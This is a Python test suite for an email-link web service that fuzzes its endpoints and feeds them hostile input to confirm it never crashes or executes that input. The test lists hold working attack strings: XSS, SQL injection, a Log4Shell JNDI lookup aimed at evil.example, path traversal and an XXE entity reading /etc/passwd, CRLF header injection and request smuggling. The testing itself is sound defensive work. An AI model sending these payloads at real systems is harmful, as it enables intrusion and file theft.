"""Whatever comes in: refused or kept as it is, never a 500, never executed."""

import socket
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine, update

from accounts.ledger.engine import writing
from accounts.models import Account, Stakeholder
from flows import tokens
from flows.settings import Settings, Web
from flows.web.app import build, open_desk
from flows.web.serving import MOST_HEADERS
from tests.cast import World
from tests.signals.post import play
from tests.web.reps import path as rep_path
from tests.web.visitor import (
    NEXT_YEAR,
    SECRET,
    Browser,
    Clock,
    Serve,
    asset_path,
    click_path,
    on_sqlite,
    opt_out_path,
    preferences_path,
    signals,
    trap_path,
)

WIDE_OPEN = Web(sites=["www.lumenflow.example"], requests_per_second=10**6, burst=10**6)
#: The first touch of a world has the number 1.
TOUCH = 1
GENUINE = {
    "/u/{token}": tokens.sign(tokens.UNSUBSCRIBE, TOUCH, SECRET),
    "/c/{token}": tokens.sign_click(TOUCH, 0, SECRET),
    "/p/{token}": tokens.sign_until(tokens.PREFERENCES, NEXT_YEAR, SECRET, TOUCH),
    "/a/{token}": tokens.sign_until(tokens.ASSET, NEXT_YEAR, SECRET, TOUCH, 2),
    "/a/{token}/document": tokens.sign_until(tokens.ASSET, NEXT_YEAR, SECRET, TOUCH, 2),
    "/n/{token}": tokens.sign(tokens.TRAP, TOUCH, SECRET),
}


def operations(genuine: dict[str, str]) -> list[Any]:
    """What our OpenAPI offers; with the token of a real mail where there is one, otherwise with any text."""
    import schemathesis

    schema = build(open_desk(create_engine("sqlite://"), Settings(secret_key=SECRET), play())).openapi()
    for path, methods in schema["paths"].items():
        for operation in methods.values():
            for parameter in operation.get("parameters", ()):
                parameter["schema"] = {"enum": [genuine[path]]} if path in genuine else {"type": "string"}
    return [found.ok() for found in schemathesis.openapi.from_dict(schema).get_all_operations()]


def cases(known: list[Any], unknown: list[Any]) -> st.SearchStrategy[Any]:
    """Requests as they are allowed, and for what has a genuine token also as they are forbidden."""
    from schemathesis.generation import GenerationMode

    return st.one_of(
        *(operation.as_strategy(generation_mode=GenerationMode.POSITIVE) for operation in [*known, *unknown]),
        *(operation.as_strategy(generation_mode=GenerationMode.NEGATIVE) for operation in known),
    )


@pytest.fixture
def wide(serve: Serve, world: World, clock: Clock, tmp_path: Path, touch: int) -> Browser:
    """An app without a limit for one source, over a ledger with one mail in it."""
    assert touch == TOUCH
    return serve(world.engine, clock, None, Settings(home=tmp_path, secret_key=SECRET, web=WIDE_OPEN))


@on_sqlite
def test_whatever_our_openapi_allows_or_forbids_nothing_is_our_mistake(wide: Browser, world: World) -> None:
    known = operations(GENUINE)

    @settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck), database=None)
    @given(cases(known, operations({})))
    def ask(case: Any) -> None:
        answer = case.call(base_url=wide.root, session=wide.session, allow_redirects=False)
        unready = case.operation.path == "/readyz" and answer.status_code == 503  # no migration made these tables
        assert answer.status_code < 500 or unready, case.as_curl_command()

    ask()
    assert {operation.path for operation in known} >= {"/c/{token}", "/u/{token}", "/p/{token}", "/collect"}
    assert signals(world), "genuine tokens were among those tried"


def raw(web: Browser, request: bytes, *, hang_up: bool = False) -> bytes:
    """What the server says to these bytes until it closes; `hang_up`: nothing more will come from us."""
    host, port = web.root.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=5) as line:
        line.sendall(request)
        if hang_up:
            line.shutdown(socket.SHUT_WR)
        return b"".join(iter(lambda: line.recv(65536), b""))


HOSTILE = (
    b"<script>alert(1)</script>", b"\xff\xfe\x80", b"' OR 1=1 --", b"${jndi:ldap://evil.example/a}", b"%s%n" * 50,
    b"{{ 7*7 }}", b"x" * 8000, b"\xe2\x80\xae\xf0\x9f\x92\xa5",
)  # fmt: skip


@pytest.mark.parametrize("agent", HOSTILE)
def test_a_hostile_user_agent_is_kept_as_it_is_and_never_executed(
    wide: Browser, world: World, touch: int, agent: bytes
) -> None:
    request = b"GET %s HTTP/1.1\r\nHost: x\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n"
    answer = raw(wide, request % (click_path(touch).encode(), agent))
    assert answer.startswith(b"HTTP/1.1 302")
    (signal,) = signals(world)
    assert signal.data["user_agent"] == agent.decode("latin-1")[:300]
    assert agent not in raw(wide, request % (opt_out_path(touch).encode(), agent))


@on_sqlite
@pytest.mark.parametrize(
    "target",
    [
        b"/c/%00", b"/c/%ff%fe", b"/c/..%2f..%2fetc%2fpasswd", b"/p/<script>", b"/c/" + b"A" * 5000,
        b"//evil.example/c/x", b"http://evil.example/c/x", b"/c/x?next=https://evil.example",
        b"/u/%0d%0aSet-Cookie:%20a=b", b"/u/x/", b"/c/x/", b"/hooks/sendgrid/", b"/healthz/",
        b"*", b"/c/\xc3\xa9", b"/o/%2e%2e.gif", b"/a//document", b"/t.js/../../x",
    ],
)  # fmt: skip
def test_a_hostile_address_leads_nowhere(wide: Browser, world: World, target: bytes) -> None:
    answer = raw(wide, b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % target)
    head, _, body = answer.partition(b"\r\n\r\n")
    assert int(head.split()[1]) in (200, 400, 404), "a picture, or nothing; no way to a host that a request names"
    assert b"location" not in head.lower()
    assert b"set-cookie" not in head.lower()
    assert b"<script" not in body
    assert signals(world) == []


@on_sqlite
@pytest.mark.parametrize(
    "request_",
    [
        b"\x16\x03\x01\x02\x00\x01", b"GET\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"\r\n" * 1000, b"\x00" * 100,
        b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"y" * (2 * MOST_HEADERS) + b"\r\n\r\n",
        b"POST /collect HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"POST /collect HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
        b"POST /collect HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /collect HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\ncut",
    ],
)  # fmt: skip
def test_what_is_no_http_is_refused_and_the_next_visitor_served(wide: Browser, request_: bytes) -> None:
    answer = raw(wide, request_, hang_up=True)
    assert b" 500 " not in answer.partition(b"\r\n")[0]
    assert not answer or b"content-security-policy: default-src 'none'" in answer, "on every answer"
    assert wide.get("/healthz").status_code == 200


@on_sqlite
def test_who_hangs_up_in_the_middle_of_a_request_is_no_mistake_of_ours(wide: Browser, touch: int) -> None:
    """Thousands may do so at once: a mistake would be told in fifty lines each."""
    for path in (preferences_path(touch), "/collect"):
        raw(wide, b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\ncut" % path.encode(), hang_up=True)
    told = [f'method="POST",route="{route}",status="400"' for route in ("/p/{token}", "/collect")]
    give_up = time.monotonic() + 60
    while not all(line in wide.get("/metrics").text for line in told):  # their ends are heard after they hung up
        assert time.monotonic() < give_up
        time.sleep(0.01)
    assert 'status="500"' not in wide.get("/metrics").text


@on_sqlite
@pytest.mark.parametrize("kind", ["application/json", "multipart/form-data", "text/xml; charset=nonsense", ""])
@pytest.mark.parametrize(
    "body", [b"{", b"--x\r\n", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", b"\xff" * 50]
)
def test_a_wrong_content_type_is_no_mistake_of_ours(wide: Browser, touch: int, kind: str, body: bytes) -> None:
    answers = {
        path: wide.post(path, data=body, headers={"content-type": kind, "origin": "https://www.lumenflow.example"})
        for path in (preferences_path(touch), opt_out_path(touch), "/collect", click_path(touch), "/t.js")
    }
    assert [answer.status_code for answer in answers.values()] == [400, 200, 400, 405, 405]


@on_sqlite
def test_a_reps_link_with_more_behind_it_than_a_form_has_still_asks(wide: Browser, world: World) -> None:
    answer = wide.get(f"{rep_path(world, 'hold')}?{'a=b&' * 500}until=2026-12-24")
    assert (answer.status_code, "Hold marketing to Acme Works?" in answer.text) == (200, True)


@on_sqlite
def test_html_in_names_is_shown_nowhere(wide: Browser, world: World, touch: int) -> None:
    evil = "<img src=x onerror=alert(1)>"
    with writing(world.engine) as connection:
        connection.execute(update(Stakeholder).values(first_name=evil, last_name=evil, title=evil))
        connection.execute(update(Account).values(name=evil))
    for path in (opt_out_path(touch), preferences_path(touch), asset_path(touch, 2), trap_path(touch)):
        assert "onerror" not in wide.get(path).text
    assert "onerror" not in wide.post(preferences_path(touch), data={"choice": "fewer"}).text
